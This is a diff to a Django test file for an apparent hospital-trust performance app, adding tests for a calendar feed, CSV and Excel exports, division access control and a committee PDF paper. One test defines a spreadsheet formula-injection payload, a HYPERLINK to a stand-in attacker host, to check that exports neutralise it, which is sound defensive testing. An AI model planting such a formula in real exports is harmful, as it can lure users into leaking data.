@@ -1,13 +1,19 @@
-"""PRM schedules, data packs and actions against the demo trust (real database, real PDF rendering)."""
+"""PRM schedules, data packs, actions, the calendar feed, the exports and the FPEC paper against the demo
+trust (real database, real PDF rendering). The demo is loaded once for the module (``module_demo``); each
+test runs in its own savepoint, so what one test writes the next does not see."""
 
+import csv
 import io
 from datetime import date, datetime, timedelta
+from urllib.parse import urlparse
 
 import pandas as pd
 import pytest
 import time_machine
 from django.core import mail
 from django.core.exceptions import ValidationError
+from django.urls import reverse
+from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from divisions.models import OrgUnit
@@ -25,7 +31,7 @@ pytestmark = pytest.mark.django_db
 
 
 @pytest.fixture
-def surgery(demo):
+def surgery(module_demo, db):
     return OrgUnit.objects.get(code="RWD-SUR")
 
 
@@ -176,3 +182,135 @@ def test_action_updates_move_the_status_and_are_audited(surgery):
     assert action.status == "in_progress" and action.updates.count() == 1
     assert not action.is_overdue(date(2029, 12, 31)) and action.is_overdue(date(2030, 1, 2))
     assert AuditEvent.objects.filter(object_type=Action._meta.label, verb="action updated").exists()
+
+
+def _unfolded(body: str) -> str:
+    return body.replace("\r\n ", "")
+
+
+def test_each_user_subscribes_to_a_calendar_of_the_meetings_they_may_see(surgery, client):
+    medicine = OrgUnit.objects.get(code="RWD-MED")
+    cancelled = Meeting.objects.filter(division=surgery, status="planned").order_by("scheduled_for").last()
+    cancelled.status, cancelled.cancelled_reason = "cancelled", "Clash with the board"
+    cancelled.save()
+    client.force_login(User.objects.get(username="md.surgery"))
+    feed_url = client.get(reverse("division-calendar", args=["RWD-SUR"])).context["feed_url"]
+    client.logout()
+
+    # The address alone is the key: no session is needed, and a changed token finds nothing.
+    response = client.get(urlparse(feed_url).path)
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/calendar")
+    body = response.content.decode()
+    assert body.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n") and body.endswith("END:VCALENDAR\r\n")
+    assert all(len(line.encode()) <= 75 for line in body.split("\r\n"))
+    text = _unfolded(body)
+    surgery_meetings = Meeting.objects.filter(division=surgery)
+    assert text.count("BEGIN:VEVENT") == surgery_meetings.count()
+    assert f"DTSTART;VALUE=DATE:{surgery_meetings.earliest('scheduled_for').scheduled_for:%Y%m%d}" in text
+    assert f"UID:meeting-{cancelled.pk}@pmf" in text
+    event = text.split(f"UID:meeting-{cancelled.pk}@pmf")[1].split("END:VEVENT")[0]
+    assert "STATUS:CANCELLED" in event
+    assert medicine.name not in text
+    assert client.get(urlparse(feed_url).path.replace(".ics", "x.ics")).status_code == 404
+
+    client.force_login(User.objects.get(username="perf"))
+    perf_feed = client.get(reverse("calendar")).context["feed_url"]
+    client.logout()
+    everything = _unfolded(client.get(urlparse(perf_feed).path).content.decode())
+    assert everything.count("BEGIN:VEVENT") == Meeting.objects.count()
+    assert f": {medicine.name}" in everything
+
+
+INJECTION = '=HYPERLINK("https://attacker.example/steal","Click for details")'
+
+
+def test_the_action_log_exports_neutralise_formulas_and_respect_who_may_see(surgery, client):
+    perf = User.objects.get(username="perf")
+    create_action(
+        actor=perf,
+        division=surgery,
+        title=INJECTION,
+        owner="+44 Owner",
+        due_date=date(2020, 1, 31),
+        escalate_to_fpec=True,
+        kpis=Kpi.objects.order_by("code")[:2],
+    )
+    client.force_login(perf)
+
+    response = client.get(reverse("actions-csv"), {"division": "RWD-SUR", "status": "overdue"})
+    assert response["Content-Disposition"] == 'attachment; filename="actions.csv"'
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0][:3] == ["Division", "Title", "Owner"]
+    row = next(r for r in rows if "HYPERLINK" in r[1])
+    assert row[1] == "'" + INJECTION and row[2] == "'+44 Owner"
+    assert row[3] == "2020-01-31" and row[5] == "yes" and row[7] == "yes"
+    assert all(r[0] == surgery.name for r in rows[1:])
+
+    response = client.get(reverse("actions-xlsx"), {"fpec": "on"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[1].value))
+    assert cells[1].data_type == "s" and cells[1].value == "'" + INJECTION  # text, never a formula
+    assert cells[3].is_date and cells[3].value.date() == date(2020, 1, 31)
+    assert {str(r[7].value) for r in sheet.iter_rows(min_row=2)} == {"yes"}  # only flagged actions
+
+    client.force_login(User.objects.get(username="md.medicine"))
+    rows = list(csv.reader(io.StringIO(client.get(reverse("actions-csv")).content.decode("utf-8-sig"))))
+    assert len(rows) > 1 and {r[0] for r in rows[1:]} == {"Medicine"}
+
+
+def test_only_the_owning_division_may_update_an_action(surgery, client):
+    action = Action.objects.filter(division=surgery).first()
+    audits = AuditEvent.objects.count()
+
+    client.force_login(User.objects.get(username="md.medicine"))
+    form = {"note": "Medicine writing on Surgery's action", "status": "done"}
+    assert client.get(reverse("action", args=[action.pk])).status_code == 403
+    assert client.post(reverse("action-update", args=[action.pk]), form).status_code == 403
+    assert action.updates.count() == 0 and AuditEvent.objects.count() == audits
+    action.refresh_from_db()
+    assert action.status == "open"
+
+    client.force_login(User.objects.get(username="cd.surgery"))
+    form = {"note": "Extra theatre lists from May", "status": "in_progress"}
+    response = client.post(reverse("action-update", args=[action.pk]), form)
+    assert response.status_code == 302
+    action.refresh_from_db()
+    assert action.status == "in_progress" and action.updates.get().by.username == "cd.surgery"
+
+
+def test_the_fpec_summary_paper_as_a_page_and_a_pdf(surgery, client):
+    perf = User.objects.get(username="perf")
+    latest = surgery.ratings.order_by("-month").first()
+    month = latest.month
+    Meeting.objects.create(division=surgery, scheduled_for=month.replace(day=14), status="held")
+    create_action(
+        actor=perf,
+        division=surgery,
+        title="Report the theatre recovery to FPEC",
+        owner="Managing director",
+        due_date=month,
+        escalate_to_fpec=True,
+    )
+    create_action(
+        actor=perf, division=surgery, title="Not for the committee", owner="Clinical lead", due_date=month
+    )
+    client.force_login(User.objects.get(username="board"))
+
+    page = client.get(reverse("fpec", args=[f"{month:%Y-%m}"]))
+    assert page.status_code == 200
+    html = page.content.decode()
+    assert "Summary paper for the Finance, Performance and Estates Committee" in html
+    for division in OrgUnit.objects.filter(level="division"):
+        assert division.name in html
+    assert "Report the theatre recovery to FPEC" in html and "(overdue)" in html
+    assert "Not for the committee" not in html
+    assert f"{surgery.name}, 14 {month:%b %Y}: Held" in html
+    positions = {p["division"].code: p for p in page.context["positions"]}
+    assert positions["RWD-SUR"]["now"] == latest
+    assert client.get(reverse("fpec", args=["not-a-month"])).status_code == 404
+
+    pdf = client.get(reverse("fpec-pdf", args=[f"{month:%Y-%m}"]))
+    assert pdf["Content-Type"] == "application/pdf"
+    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages).split())
+    assert "Summary paper for the Finance, Performance and Estates Committee" in text
+    assert "Report the theatre recovery to FPEC" in text and surgery.name in text
